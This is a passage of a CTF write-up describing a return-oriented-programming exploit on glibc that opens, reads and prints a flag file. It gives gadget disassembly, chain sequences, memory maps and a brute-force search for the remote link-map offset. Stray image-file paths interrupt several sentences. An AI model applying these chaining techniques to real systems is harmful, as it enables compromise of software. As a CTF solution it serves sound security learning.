   0x7f9cb22fa88e<_IO_adjust_column+46>:   ret

Given the gadget for sub rcx, rax I either needed to do it twice as rax will get clobbered, or find an add rax, 1

   0x7f9cb2317250 <envz_get+32>:    add    rax,0x1
   0x7f9cb2317254 <envz_get+36>:    test   dl,dl
   0x7f9cb2317256 <envz_get+38>:    mov    edx,0x0
   0x7f9cb231725b <envz_get+43>:    cmove  rax,rdx
   0x7f9cb231725f <envz_get+47>:    ret

Luckily RDX is never zero and the DL check can be avoided, but since we changed the method of calling syscall, RSI still points to the flag now. So we need to call syscall once to have it fail, this allows us to move RSI into RDI. Normally this would also set RCX but in the source of syscall, for some reason, sets the error code into RCX first, so for this I called write instead, setting RCX to that syscall instead.

RSI = Zero , RDI, and Full OPEN

Now we still need to get RSI to zero as we want to open the flag asread, finding a gadget for this was a bit tough. By utilizing the hcreate function above to set RSI to the flag, we can then and esi, 0x200 to get the zero we desire.

0x7f9cb239eee0 <__memcpy_chk+64>:   and    esi,0x200
   0x7f9cb239eee6 <__memcpy_chk+70>:    lea    rdx,[rip+0x74353]        # 0x7f9cb2413240
   0x7f9cb239eeed <__memcpy_chk+77>:    lea    rax,[rip+0x743bc]        # 0x7f9cb24132b0
   0x7f9cb239eef4 <__memcpy_chk+84>:    cmove  rax,rdx
   0x7f9cb239eef8 <__memcpy_chk+88>:    ret

This one was close as, __memcpy_chk doesn’t actually resolve, but luckily the function right before does resolve, good ‘ol __cyg_profile_func_exit. Luckily based on the address I was using for the flag file name, anding with 0x200 resulted in 0.

With this out of the way now we can set RDI, this is only important in the case of the first syscall we need to make as it still needs to be a valid syscall to move to RAX

So here is that gadget:

   0x7f9cb22c60d3:  mov    edi,eax
   0x7f9cb22c60d5:  cmp    rdx,rcx
   0x7f9cb22c60d8:  jae    0x7f9cb22c60bc
   0x7f9cb22c60da:  mov    rax,r8
   0x7f9cb22c60dd:  ret

This is at cuserid+243, the one catch is that RCX needs to be greater than RDX or this won’t work. As it jumps away and does some garbage, then crashes. Since RDX is near our chain, the only way I could figure this out a way to setRCX higher was another syscall.

So the full chain for open becomes:

set rsi to flag mem
write function , sets rcx higher than rdx
mov rax, 1
mov rdi, rax
syscall func, mov rdi, rsi
set rsi to flag
and esi, 0x200, zero rsi
mov rax, 1
add rax, 1
sub rcx, rax; resets rax
mov rax, 1
add rax, 1, set rax to open
push rcx; ret

Not too shabby!

Read problems

For the read syscall, we can’t just call the read function as RDX will be a large value and you wouldn’t guess it but, read needs the third argument to be around 0x1000 as a max. So we need a way to set RDX and call syscall, this turned into a huge headache, but eventually I was able to think of a solution.

If we utilize the syscall function we can move a value from RCX into RDX, allowing us to get a smaller value in there if we can control RCX. We have a rough estimate at what RCX equals, as we just used a syscall. So I found this gadgets to helplower make RCX usable:

   0x7f9cb22b27c6 <rand_r+70>:  and    ecx,0x3ff
   0x7f9cb22b27cc <rand_r+76>:  xor    eax,ecx
   0x7f9cb22b27ce <rand_r+78>:  ret

Next we need to set RSI to our File Descriptor, I could have just assumed 3 and worked with it but the gadgets I found let me move the value from RAX just as easily, by utilizing the zeroing out of RSI from earlier, a move from RAX to RDI, and finally the gadget below.

   0x7f9cb22ad924:  or     esi,edi
   0x7f9cb22ad926:  movd   xmm0,esi
   0x7f9cb22ad92a:  ret

This was found at modff+0xe4

RDI/RAX and Read ChainWe also need to have RDI be 0, there are several ways this could be done, the method I took was to make RAX become -1 then use the add 1 gadget from earlier. This can easiliy be done with just a call to write that will fail, there by returning -1 as an error.

We should be able to create a chain building off the previous open to read from the flag, but wait what about RSI during the actual syscall function. Since RSI is set to the value at RDX this works alright, it isn’t perfect as we don’t have full control of the location but we do know that it is writeable memory and that is all that really matters for now.

mov rdi, rax
set rsi, to flag , also zeros out rax
and esi, 0x200
or esi, edi
write call, rax = -1
add rax, 1
mov rdi, rax
and rcx, 0x3ff
syscall func

Write chain

Now we have most of the gadgets, we need for a write call as well, write follows the same guadlines as read, so we need to make RDX smaller again through RCX. And our same gadgets should still work, RSI won’t point to the exact same address as where we stored the flag but will still point to the fake fini_array and we can print the data before and after it.

set rsi, to flag
mov rax, 1
mov rdi, rax
and esi, 0x200
or esi, edi
and rcx, 0x3ff
syscall function

The lastly to get this to run, all you need to do is call Exit so _dl_fini can becalled and viola a flag… on local at least


All the garbage will print out with it, as this is from our rop chain.


I’m going to ignore the fact that my rop chain wasn’t working at one point when I first started trying to hit remote and talk about some of the real issues at hand, here are two memory maps, first is from my docker environment using the correct hash and the second is from the author from the remote system

0x00007eff8f7fa000 0x00007eff8f83d000 0x0000000000000000 rw-                            <-- mmapped region
0x00007eff8f83d000 0x00007eff8f869000 0x0000000000000000 r--                     <-- 0x43000 offset to mmapped region0x00007eff8f869000 0x00007eff8f9fd000 0x000000000002c000 r-x
0x00007eff8f9fd000 0x00007eff8fa51000 0x00000000001c0000 r--
0x00007eff8fa51000 0x00007eff8fa52000 0x0000000000214000 ---
0x00007eff8fa52000 0x00007eff8fa55000 0x0000000000214000 r--
0x00007eff8fa55000 0x00007eff8fa58000 0x0000000000217000 rw-
0x00007eff8fa58000 0x00007eff8fa67000 0x0000000000000000 rw-
0x00007eff8fa69000 0x00007eff8fa6a000 0x0000000000000000 r--          <-- 0x22c000 offset to LIBC
0x00007eff8fa6a000 0x00007eff8fa92000 0x0000000000001000 r-x
0x00007eff8fa92000 0x00007eff8fa9c000 0x0000000000029000 r--
0x00007eff8fa9c000 0x00007eff8fa9e000 0x0000000000032000 r--
0x00007eff8fa9e000 0x00007eff8faa00000x0000000000034000 rw-

7f54d09a4000-7f54d09e8000 rw-p 00000000 00:00 0                                        <-- mmapped region
7f54d09e8000-7f54d0a14000 r--p 00000000 00:2a7 9044063                      <-- 0x44000 offset to the heap
7f54d0a14000-7f54d0ba8000 r-xp 0002c000 00:2a7 9044063
7f54d0ba8000-7f54d0bfc000 r--p 001c0000 00:2a7 9044063
7f54d0bfc000-7f54d0bfd000 ---p 00214000 00:2a7 9044063
7f54d0bfd000-7f54d0c00000 r--p 00214000 00:2a7 9044063
7f54d0c00000-7f54d0c03000 rw-p 00217000 00:2a7 9044063
7f54d0c03000-7f54d0c10000 rw-p 00000000 00:00 0
7f54d0c12000-7f54d0c14000 rw-p 00000000 00:00 0
7f54d0c14000-7f54d0c15000 r--p 00000000 00:2a7 9044044            <-- 0x22c00 offset to LIBC
7f54d0c15000-7f54d0c3d000 r-xp 00001000 00:2a7 9044044
7f54d0c3d000-7f54d0c47000 r--p 00029000 00:2a7 9044044
7f54d0c47000-7f54d0c49000 r--p 00032000 00:2a7 9044044
7f54d0c49000-7f54d0c4b000 rw-p 00034000 00:2a7 9044044

After looking at this you would have the same assumption as me and everyone else that looked at it, all you need to do is add 0x1000 to all the offsets, let’s see if that works.run 0: started
run 0: flag not found

Well that is not reassuring, maybe I miss typed something so I checked, then double checked, then triple checked. Then asked someone else for confirmation on their system and their offsets were even more different. This is also where I learned about the puts error that I ran into. Thanks ath0 for this. So maybe a different gadget was running into the same issue of loading a different function because of CPU opperability, but after looking through, none of the gadgets should run into this. So I came to the assumption that one of my offsets had to still be different compared to my system, there is one offset that stands apart from everything else.

That would be the libc link map, looking back our link map is at libc+0x228000. Now this offset is a bit strange as it is almost to the ld and at the further edges of libc, it didn’t truly occur to me that this is probably a loaded subvalue as the remote system has two different mmapped chunks after libc and mine only has 1. To find the correct offset, you guessed it we brute force, I set a quick brute to jump every 8 bytes starting at the 0x22a000 from libc, and got a hit at 0x200. Now giving me the flag!!!



This challenge took the most of my time in a long time for a CTF challenge, I’m happy that I was able to successfully complete the challenge but a bit dissappointed that I wasn’t able to claim the blood because of different system offsets, not even libc/ld. Before you think, “why not just check their system and try it”… I did, I ran my exploit for there other challenge, interview, and checked the kernel version thinking this would work. Found the rare instance, then tried it on 3 different ubuntu versions, all had different offsets then the remote. So I reached out to the infra man, and was informed that:theyre running the ubuntu-gke-2004-1-21-v20211104 gcp image
kernel is 5.4.0-1054-gke

At this point I thought I spent enough time trying to get this working and pretty much threw in the towel as it was already pastthe deadline. So it was a great surprise when my last gamble actually paid off while I was writing this writeup.

Anyways, thanks for reading andthanks to pepsipu for the challenge, ath0 for the sanity check and help, and sour for sitting in discord and watching me fail for hours when you didn’t fully understand what wasgoing on!


View Github